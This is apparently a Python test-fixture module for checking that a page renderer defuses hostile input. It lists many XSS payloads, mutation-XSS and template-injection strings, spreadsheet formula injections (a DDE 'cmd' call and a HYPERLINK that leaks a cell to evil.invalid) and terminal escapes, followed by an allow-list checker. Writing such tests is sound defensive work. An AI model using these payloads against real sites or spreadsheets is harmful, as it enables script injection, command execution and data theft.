"""Hostile texts: scripts that set a flag in the window when anything runs them, formula cells, terminal escapes.

Every script payload, once live, adds to `window.__pwned`, asks FOREIGN for something, or both; a browser test looks
for the flag, for requests to another host, and for the text itself on the page.
"""

from __future__ import annotations

import html.parser

__all__ = ["ALLOWED_TAGS", "FOREIGN", "FORMULAS", "SCRIPTS", "TERMINAL", "assert_harmless", "tags_of"]

FOREIGN = "evil.invalid"  # never resolves; a request to it is noticed before it leaves
_RUN = "window.__pwned=(window.__pwned||0)+1"
_TOP = "top.__pwned=(top.__pwned||0)+1"

SCRIPTS = (
    # script elements, plain and disguised
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<script src=http://{FOREIGN}/x.js></script>",
    f"<script type=module>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<scr\0ipt>{_RUN}</scr\0ipt>",
    f"<script\n>{_RUN}</script\n>",
    "<script>/*",
    # event handlers
    f"<img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_RUN}">',
    f"<img src=x:x onerror\n=\n{_RUN}>",
    f"<img/src=x/onerror={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<div style='animation:a 1s' onanimationstart={_RUN}>x</div><style>@keyframes a{{}}</style>",
    f"<p onmouseover={_RUN} style='position:fixed;inset:0'>x</p>",
    f"<x contenteditable autofocus tabindex=1 onfocus={_RUN}>x",
    # svg and mathml, and what parsers make of them twice (mXSS)
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>x</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{_TOP}</script>'></iframe></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>",
    f"<math href='javascript:{_RUN}'>x</math>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
    f"<template><script>{_RUN}</script></template><img src=x onerror={_RUN}>",
    # breaking out of what stands around
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f'" autofocus onfocus="{_RUN}" x="',
    f"' autofocus onfocus='{_RUN}' x='",
    f"` onmouseover=`{_RUN}",
    f"</td></tr></table><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script><![CDATA[",
    f"<!--<img src='--><img src=x onerror={_RUN}//'>",
    "<img src=x title='",
    # addresses
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<a href='java\tscript:{_RUN}'>x</a>",
    f"<a href=' &#106;avascript:{_RUN}'>x</a>",
    f"<a href='data:text/html,<script>{_TOP}</script>'>x</a>",
    f"<iframe src='javascript:{_TOP}'></iframe>",
    f"<iframe srcdoc='<script>{_TOP}</script>'></iframe>",
    f"<object data='data:text/html,<script>{_TOP}</script>'></object>",
    f"<embed src='javascript:{_TOP}'>",
    f"<meta http-equiv=refresh content='0;url=http://{FOREIGN}/'>",
    f"<base href='http://{FOREIGN}/'>",
    f"<form action='javascript:{_RUN}'><button autofocus>x</button></form>",
    f"<link rel=stylesheet href='http://{FOREIGN}/x.css'>",
    f"<img src='http://{FOREIGN}/x.png'>",
    f"<img srcset='http://{FOREIGN}/x.png 1x'>",
    # styles
    f"<style>@import 'http://{FOREIGN}/x.css';</style>",
    f"<div style='background:url(http://{FOREIGN}/x.png)'>x</div>",
    f"<div style='width:expression({_RUN})'>x</div>",
    # Markdown
    f"[x](javascript:{_RUN})",
    f"![x](http://{FOREIGN}/x.png)",
    f'![x](x"onerror="{_RUN})',
    f"<javascript:{_RUN}>",
    f"[x]: javascript:{_RUN}\n[x]",
    f"```\n```<img src=x onerror={_RUN}>",
    f"| a | b |\n|---|---|\n| <img src=x onerror={_RUN}> | ` |",
    # templates
    "{{constructor.constructor('" + _RUN + "')()}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${" + _RUN + "}",
    "<%= " + _RUN + " %>",
    # formulas that a page typesets
    f"$\\href{{javascript:{_RUN}}}{{x}}$",
    f"\\(\\href{{javascript:{_RUN}}}{{x}}\\)",
    f"$$\\style{{background:url(http://{FOREIGN}/x.png)}}{{x}}$$",
    "$\\unicode{x3C}script\\unicode{x3E}$ and $x_1$",
    f"\\[\\class{{x' onmouseover='{_RUN}}}{{x}}\\]",
    # characters
    f"\u202e<script>{_RUN}</script>",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"\ufeff<img src=x onerror={_RUN}>",
    f"<img src=x onerror=\u2028{_RUN}>",
    f"\x1b]8;;javascript:{_RUN}\x07x\x1b]8;;\x07",
    f"\x1b[31m<img src=x onerror={_RUN}>\x1b[0m",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
)

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.invalid?x="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "'=1+1",
    "''=1+1",
    "'+1 said twice",
)

TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.invalid\x07link\x1b]8;;\x07",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "a\rb",
    "a\bb",
    "\u202eabc",
    "\0",
)

ALLOWED_TAGS = {"table", "colgroup", "col", "thead", "tbody", "tr", "th", "td", "div", "p", "span", "b", "br"}
ALLOWED_TAGS |= {"details", "summary", "del", "ins"}


class _Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def tags_of(page: str) -> list[tuple[str, dict[str, str]]]:
    """Every tag of a page with its attributes."""
    parser = _Tags()
    parser.feed(page)
    parser.close()
    return parser.found


def assert_harmless(page: str) -> None:
    """Nothing but the tags that `display` writes, with no attributes but style and class."""
    for tag, attributes in tags_of(page):
        assert tag in ALLOWED_TAGS, f"<{tag}> is live"
        assert attributes.keys() <= {"style", "class"}, f"<{tag}> has {attributes}"
